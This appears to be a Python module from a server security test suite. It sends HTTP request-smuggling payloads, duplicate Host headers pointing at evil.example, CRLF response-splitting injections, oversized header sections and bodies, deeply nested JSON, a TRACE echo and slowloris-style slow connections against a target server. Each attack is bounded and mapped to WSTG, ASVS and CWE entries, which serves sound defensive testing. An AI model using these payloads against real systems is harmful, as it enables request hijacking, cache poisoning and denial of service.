"""The wire: bytes that two readers take for different requests, and requests that never end.

All of it is bounded: a dozen connections, some seconds, some megabytes.
"""

from __future__ import annotations

import json
import re
import select
import socket
import time
from collections.abc import Iterable, Mapping
from contextlib import suppress
from urllib.parse import urlencode

from authref.attacks.client import Answer, parse
from authref.attacks.scene import Account, Group, NotPlayed, Outcome, Scene, has_a_session, judge, judge_each, must

WIRE = Group("wire", has_a_session)
attack = WIRE.attack

CONNECTIONS = 12  # of a slow client
SLOW = 21  # seconds after which a server should have had enough of one
HUGE = 24 << 20  # bytes: more than any system keeps between two programs
PIECE = 1 << 18  # bytes


def ask(
    scene: Scene, head: str, body: str = "", line: str = "GET {me} HTTP/1.1", host: str = "Host: {host}\r\n"
) -> Answer:
    """The answer to a request of Alice's that has these lines, written as they are, in its head."""
    return scene.client().raw(written(scene, head, body, line, host), timeout=3)


def written(
    scene: Scene, head: str, body: str = "", line: str = "GET {me} HTTP/1.1", host: str = "Host: {host}\r\n"
) -> bytes:
    """The bytes of that request."""
    me = scene.me_route.partition(" ")[2]
    own = "".join(f"{name}: {text}\r\n" for name, text in scene.alice_session.own_fields().items())
    names = {"{me}": me, "{host}": scene.target.address.named}
    text = f"{line}\r\n{host}{own}Connection: close\r\n{head}\r\n{body}"
    for name, value in names.items():
        text = text.replace(name, value)
    return text.encode("latin-1")


def ask_each(scene: Scene, tried: Mapping[str, tuple[str, str]]) -> Outcome:
    """What comes of requests with these heads and bodies: whatever is taken for one is through."""
    must(scene, ask(scene, ""), "the same request, written plainly")
    return judge_wire(scene, ((what, ask(scene, head, body)) for what, (head, body) in tried.items()))


def judge_wire(scene: Scene, answers: Iterable[tuple[str, Answer]]) -> Outcome:
    """As judge_each: through is what the server took for a request of Alice's. Closing at once is a refusal here."""
    cases = []
    for what, answer in answers:
        shown = answer if answer.status else Answer(answer.request, 400)  # it hung up: nobody was served
        cases.append((what, shown, scene.succeeded(answer)))
    return judge_each(cases)


@attack(
    20, has="a proxy before the server", gains="a request of theirs on somebody else's connection",
    counts="a request with both is taken, and the next one read", read="serving/reader.py:_body_length",
    tiny="tiny.py:Handler.do_GET", wstg="INPV-15", asvs="4.2.1", cwe=444, exercise="body-length",
)  # fmt: skip
def length_and_chunks(scene: Scene) -> Outcome:
    """Content-Length and Transfer-Encoding in one request, and the connection goes on: smuggling"""
    chunks = "0\r\n\r\n"
    must(scene, ask(scene, ""), "the same request, written plainly")
    tried = {
        "both": ("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", chunks),
        "both, the other way round": ("Transfer-Encoding: chunked\r\nContent-Length: 5\r\n", chunks),
        "an odd coding": ("Content-Length: 5\r\nTransfer-Encoding: xchunked\r\n", chunks),
        "a blank before the colon": ("Content-Length: 5\r\nTransfer-Encoding : chunked\r\n", chunks),
        "a tab in the value": ("Content-Length: 5\r\nTransfer-Encoding:\tchunked\r\n", chunks),
        "identity": ("Content-Length: 5\r\nTransfer-Encoding: identity\r\n", chunks),
    }
    return judge_wire(scene, ((what, _first_of_two(scene, head, body)) for what, (head, body) in tried.items()))


def _first_of_two(scene: Scene, head: str, body: str) -> Answer:
    """The answer to such a request; none if the connection ends with it, which is safe (RFC 9112 section 6.1)."""
    plain = written(scene, "")
    data = written(scene, head, body).replace(b"Connection: close\r\n", b"", 1) + plain
    statuses = re.findall(rb"HTTP/1\.1 (\d{3})", scene.client().raw_to_the_end(data, timeout=3))
    first = int(statuses[0]) if statuses else 0
    return Answer(scene.me_route, first if len(statuses) > 1 or not 200 <= first < 300 else 0, body=b"")


@attack(
    20, has="a proxy before the server", gains="a request of theirs on somebody else's connection",
    counts="a request with two lengths is taken", read="serving/reader.py:_join_repeated",
    tiny="tiny.py:Handler.do_GET", wstg="INPV-15", asvs="4.2.1", cwe=444, exercise="body-length",
)  # fmt: skip
def two_lengths(scene: Scene) -> Outcome:
    """Two lengths in one request"""
    return ask_each(
        scene,
        {
            "two that differ": ("Content-Length: 4\r\nContent-Length: 0\r\n", "null"),
            "the other way round": ("Content-Length: 0\r\nContent-Length: 4\r\n", "null"),
            "in one line": ("Content-Length: 4, 5\r\n", "null "),
        },
    )


@attack(
    20, has="a proxy before the server", gains="a request of theirs on somebody else's connection",
    counts="a length that is no plain number is taken", read="serving/reader.py:_body_length",
    tiny="tiny.py:Handler.do_GET", wstg="INPV-15", asvs="4.2.1", cwe=444, exercise="body-length",
)  # fmt: skip
def odd_length(scene: Scene) -> Outcome:
    """A length with a sign or an underscore, or not decimal"""
    values = ("+4", "4_0", "0x4", "4.0", "1e1", "\xb2", '"4"')
    return ask_each(scene, {value: (f"Content-Length: {value}\r\n", "null" + " " * 40) for value in values})


@attack(
    20, has="a proxy before the server", gains="a request of theirs on somebody else's connection",
    counts="an odd chunk is read as a body", read="serving/reader.py:Reader._take_chunks",
    tiny="tiny.py:Handler.do_GET", wstg="INPV-15", asvs="4.2.1", cwe=444,
)  # fmt: skip
def odd_chunks(scene: Scene) -> Outcome:
    """Chunks with an odd size or an odd line end"""
    form = scene.is_form(scene.log_in_route)
    body = urlencode(scene.fields(scene.alice)) if form else json.dumps(scene.fields(scene.alice))
    if not scene.succeeded(_log_in_by(scene, f"{len(body):x}\r\n{body}\r\n0\r\n\r\n")):
        raise NotPlayed("the server reads no chunked bodies")
    tried = {
        "0x": f"0x{len(body):x}\r\n{body}\r\n0\r\n\r\n",
        "a sign": f"+{len(body):x}\r\n{body}\r\n0\r\n\r\n",
        "a line feed alone": f"{len(body):x}\n{body}\r\n0\r\n\r\n",
        "a line feed in an extension": f"{len(body):x};\n{body}\r\n0\r\n\r\n",
        "overflow": f"10000000000000000{len(body):02x}\r\n{body}\r\n0\r\n\r\n",
        "a longer chunk": f"{len(body):x}\r\n{body}xx0\r\n\r\n",
    }
    return judge_wire(scene, ((what, _log_in_by(scene, chunks)) for what, chunks in tried.items()))


def _log_in_by(scene: Scene, chunks: str) -> Answer:
    """The answer to a login whose body is sent so: it succeeds where the body was read."""
    kind = "x-www-form-urlencoded" if scene.is_form(scene.log_in_route) else "json"
    own = "".join(f"{name}: {text}\r\n" for name, text in scene.client().own_fields().items())
    head = f"{scene.log_in_route} HTTP/1.1\r\nHost: {scene.target.address.named}\r\nConnection: close\r\n{own}"
    text = f"{head}Content-Type: application/{kind}\r\nTransfer-Encoding: chunked\r\n\r\n{chunks}"
    return scene.client().raw(text.encode(), scene.log_in_route, timeout=3)


@attack(
    20, has="a cache or a gateway before the server", gains="an answer under a name of their choice",
    counts="a request with two hosts is taken", read="serving/reader.py:_join_repeated", tiny="tiny.py:Handler.do_GET",
    wstg="INPV-17", asvs="4.2.1", cwe=444,
)  # fmt: skip
def two_hosts(scene: Scene) -> Outcome:
    """Two Host headers in one request"""
    must(scene, ask(scene, ""), "the same request, written plainly")
    answers = {
        "ours first": ask(scene, "Host: evil.example\r\n"),
        "ours last": ask(scene, "Host: {host}\r\n", host="Host: evil.example\r\n"),
    }
    return judge_wire(scene, answers.items())


@attack(
    20, has="a proxy before the server", gains="a header that only one of the two sees",
    counts="a folded header is taken", read="serving/reader.py:_read_fields", tiny="tiny.py:Handler.do_GET",
    wstg="INPV-15", asvs="4.2.1", cwe=444,
)  # fmt: skip
def folded_line(scene: Scene) -> Outcome:
    """A header that goes on in the next line: obs-fold"""
    return ask_each(
        scene,
        {
            "a blank": ("X-Note: a\r\n b\r\n", ""),
            "a tab": ("X-Note: a\r\n\tb\r\n", ""),
            "at once": (" X-Note: a\r\n", ""),
        },
    )


@attack(
    20, has="a proxy before the server", gains="a header or request that only one of the two sees",
    counts="another line end than CR LF is taken", read="serving/reader.py:_FIELD", tiny="tiny.py:Handler.do_GET",
    wstg="INPV-15", asvs="4.2.1", cwe=93, exercise="split-response",
)  # fmt: skip
def bare_line_end(scene: Scene) -> Outcome:
    """A header line that ends with LF alone, or holds a CR"""
    return ask_each(
        scene,
        {
            "LF": ("X-Note: a\nX-Other: b\r\n", ""),
            "CR": ("X-Note: a\rX-Other: b\r\n", ""),
            "LF at the end": ("X-Note: a\r\n\n", "\r\n\r\n"),  # who waits for CR LF twice finds it, too
        },
    )


@attack(
    20, has="a proxy before the server", gains="a header that the two read differently",
    counts="such a header is taken", read="serving/reader.py:_FIELD", tiny="tiny.py:Handler.do_GET", wstg="INPV-15",
    asvs="4.2.1", cwe=20,
)  # fmt: skip
def odd_field(scene: Scene) -> Outcome:
    """A header with a NUL, without a name or a colon, or with a blank before it"""
    return ask_each(
        scene,
        {
            "NUL": ("X-Note: a\0b\r\n", ""),
            "no name": (": a\r\n", ""),
            "no colon": ("X-Note\r\n", ""),
            "a blank before the colon": ("X-Note : a\r\n", ""),
        },
    )


@attack(
    20, has="a field that the server echoes", gains="a header, or a whole answer, of their own",
    read="wire.py:write_response", counts="what was sent stands in a header of the answer",
    tiny="tiny.py:Handler.do_GET", wstg="INPV-15", asvs="1.2.1", cwe=113, exercise="split-response",
)  # fmt: skip
def split_response(scene: Scene) -> Outcome:
    """A line end in what is echoed begins another header"""
    evil = "x\r\nX-Evil: yes\r\n\r\n"
    client, routes = scene.client(), scene.routes
    path = scene.me_route.partition(" ")[2]
    answers = [
        scene.post(client, scene.log_in_route, scene.fields(Account(evil, evil))),
        client.send(f"GET {path}?x=%0d%0aX-Evil:%20yes"),
        client.send("GET /%0d%0aX-Evil:%20yes"),
        client.send("GET //evil.example/%2e%2e"),
        client.send(scene.me_route, headers={"Origin": "x%0d%0aX-Evil: yes"}),
    ]
    if routes.sign_up:
        fields = {routes.email: f"a@b.example{evil}", routes.password: "correct horse " + evil}
        answers.append(scene.post(client, routes.sign_up, fields))
    found = [
        answer
        for answer in answers
        if answer.header("x-evil") or re.search(r"evil\.example", answer.header("location"))
    ]
    return judge(found[0] if found else must_tell(answers), bool(found), f"{len(answers)} fields")


def must_tell(answers: list[Answer]) -> Answer:
    """One of them that a guard may have made."""
    return next((each for each in answers if each.status in (400, 401, 403)), answers[0])


@attack(
    20, has="a connection", gains="the server's memory", counts="such a header section is read to its end",
    read="serving/reader.py:_refuse_oversize", tiny="tiny.py:Handler.do_GET", wstg="BUSL-09", asvs="13.1.2", cwe=770,
)  # fmt: skip
def huge_head(scene: Scene) -> Outcome:
    """A header section of a megabyte, or of ten thousand lines"""
    return ask_each(
        scene, {"a long field": (f"X-Note: {'a' * (1 << 20)}\r\n", ""), "many fields": ("X-Note: a\r\n" * 10_000, "")}
    )


@attack(
    20, has="a connection", gains="the server's memory", counts="megabytes are read and not refused",
    read="serving/reader.py:_body_length", tiny="tiny.py:Handler.do_GET", wstg="BUSL-09", asvs="13.1.2", cwe=770,
    exercise="body-length",
)  # fmt: skip
def huge_body(scene: Scene) -> Outcome:
    """A login with a body of megabytes"""
    kind = "x-www-form-urlencoded" if scene.is_form(scene.log_in_route) else "json"
    head = f"{scene.log_in_route} HTTP/1.1\r\nHost: {scene.target.address.named}\r\nContent-Length: {HUGE}\r\n"
    sent, answer = 0, b""
    with suppress(OSError), scene.client().connect() as sock:  # it may hang up
        sock.sendall(f"{head}Content-Type: application/{kind}\r\n\r\n".encode())
        while sent < HUGE and not select.select([sock], [], [], 0)[0]:
            sent += sock.send(b" " * PIECE)
        answer = sock.recv(PIECE)
    status = parse("", answer).status
    taken = sent >= HUGE and status not in (0, 413)  # some throw it all away, and refuse it then
    return Outcome(taken, f"{sent >> 20} of {HUGE >> 20} MB sent, then {status or 'it hung up'}")


@attack(
    20, has="a few kilobytes", gains="a server that fails", counts="no answer comes, or a 5xx",
    read="wire.py:read_json", tiny="tiny.py:Handler.do_GET", wstg="INPV-12", asvs="16.5.3", cwe=674,
)  # fmt: skip
def deep_json(scene: Scene) -> Outcome:
    """JSON that is nested twenty thousand deep"""
    scene.must_take_json()
    flat = scene.client().send(scene.log_in_route, b"[]").status
    if flat == 0 or flat >= 500:
        raise NotPlayed(f"any list is answered {flat or 'by nothing'}")
    answer = scene.client().send(scene.log_in_route, b"[" * 20_000)
    fell = answer.status == 0 or answer.status >= 500
    return Outcome(fell, f"{answer.request}: {answer.status or 'no answer'}")


@attack(
    20, has="a script on our page", gains="the cookie that it may not read", counts="the request is echoed",
    read="serving/reader.py:METHODS", tiny="tiny.py:Handler.do_GET", wstg="CONF-06", asvs="13.4.4", cwe=693,
)  # fmt: skip
def trace(scene: Scene) -> Outcome:
    """TRACE echoes what scripts may not see"""
    answer = scene.client().send("TRACE /", headers={"X-Note": "echo-of-mine"})
    return Outcome(b"echo-of-mine" in answer.body, f"TRACE: {answer.status or 'no answer'}")


def held_open(scene: Scene, data: bytes, each_second: bytes) -> Outcome:
    """How many of a dozen slow connections are still open after so many seconds."""
    must(scene, scene.me(scene.alice_session), "an honest session")
    client = scene.client()
    socks = [client.connect() for _ in range(CONNECTIONS)]
    open_now = CONNECTIONS
    try:
        for sock in socks:
            sock.sendall(data)
            sock.settimeout(0.01)
        end = time.monotonic() + SLOW
        while time.monotonic() < end and open_now:
            time.sleep(1)
            open_now = sum(_still_open(sock, each_second) for sock in socks)
    finally:
        for sock in socks:
            sock.close()
    return Outcome(open_now > 0, f"{open_now} of {CONNECTIONS} still open after {SLOW} s" if open_now else "all closed")


def _still_open(sock: socket.socket, data: bytes) -> bool:
    try:
        sock.sendall(data)
        sock.recv(4096)  # an answer, or the end: either way the server has had enough
    except TimeoutError:
        return True
    except OSError:
        pass
    return False


@attack(
    20, has="one laptop", gains="all connections that the server has", counts="a connection is held by a byte a second",
    slow=True, read="serving/server.py:STATES", tiny="tiny.py:main", wstg="BUSL-09", asvs="13.1.2", cwe=400,
)  # fmt: skip
def slow_head(scene: Scene) -> Outcome:
    """A header section that comes a byte a second: slowloris"""
    return held_open(scene, b"GET / HTTP/1.1\r\nHost: " + scene.target.address.named.encode() + b"\r\nX-Note: ", b"a")


@attack(
    20, has="one laptop", gains="all connections that the server has", counts="a connection is held by a byte a second",
    slow=True, read="serving/server.py:STATES", tiny="tiny.py:main", wstg="BUSL-09", asvs="13.1.2", cwe=400,
)  # fmt: skip
def slow_body(scene: Scene) -> Outcome:
    """A body that comes a byte a second"""
    method, _, path = scene.log_in_route.partition(" ")
    head = (
        f"{method} {path} HTTP/1.1\r\nHost: {scene.target.address.named}\r\nContent-Type: application/json\r\n"
        "Content-Length: 1000\r\n\r\n"
    )
    return held_open(scene, head.encode(), b" ")
